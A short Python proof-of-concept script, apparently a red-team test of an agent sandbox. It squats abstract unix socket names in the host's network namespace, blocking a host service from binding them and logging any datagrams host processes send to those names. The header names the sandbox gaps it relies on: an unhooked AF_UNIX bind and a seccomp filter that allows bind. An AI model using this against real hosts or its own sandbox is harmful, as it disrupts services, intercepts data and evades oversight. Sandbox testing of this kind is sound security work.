#!/usr/bin/python3
# Red team 37: a --net host agent takes abstract unix socket names of the host's network
# namespace before a host service does. bind(2) on AF_UNIX is checked by no cgroup hook, and the
# seccomp filter refuses listen(2) but not bind: a bound, never-listening stream socket holds
# the name (the service's own bind then fails with EADDRINUSE), and a bound datagram socket
# receives whatever host processes send to the name.
#
# Usage: abstract_squat.py <dir> <name>
import socket, sys, time
d, name = sys.argv[1], sys.argv[2]
out = open(f"{d}/squat.log", "a", buffering=1)
held = []
for t, tag in [(socket.SOCK_STREAM, "stream"), (socket.SOCK_DGRAM, "dgram")]:
    s = socket.socket(socket.AF_UNIX, t)
    try:
        s.bind(f"\0{name}-{tag}"); held.append(s); out.write(f"bound @{name}-{tag}\n")
    except OSError as e:
        out.write(f"bind @{name}-{tag}: {e.strerror}\n")
out.write("done\n")
dg = [s for s in held if s.type == socket.SOCK_DGRAM]
end = time.time() + 600
while time.time() < end:
    for s in dg:
        s.settimeout(1)
        try:
            out.write(f"received {s.recv(4096)!r}\n")
        except OSError:
            pass
